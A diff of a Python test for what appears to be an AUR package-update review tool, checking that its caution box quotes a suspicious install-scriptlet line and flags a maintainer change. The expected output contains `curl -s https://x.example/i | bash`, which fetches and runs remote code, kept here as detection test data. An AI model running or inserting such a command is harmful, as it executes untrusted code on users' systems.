@@ -235,7 +235,12 @@ def test_the_dangerous_stands_on_top_and_everything_needed_is_there() -> None:
         "The AUR package `foo` goes from `1.2-1` to `1.3-1`, **under another maintainer**; "
         "a person has to decide (1 critical, 1 high, 1 low, 1 minor)."
     )
-    assert box == "> [!CAUTION]\n> **Fetches and runs code in its install scriptlet** (`foo.install:2`)"
+    assert box == (
+        "> [!CAUTION]\n"
+        "> **Fetches and runs code in its install scriptlet** (`foo.install:2`): `curl -s https://x.example/i | bash`\n"
+        ">\n"
+        "> The maintainer changed, too: `alice` → **`mallory`**."
+    )
     assert "| Maintainer | **changed:** `alice` → **`mallory`** |" in body
     assert f"https://aur.archlinux.org/cgit/aur.git/commit/?h=foo&id={'b' * 40}" in body
     assert f"&id={'b' * 40}&id2={'a' * 40}" in body
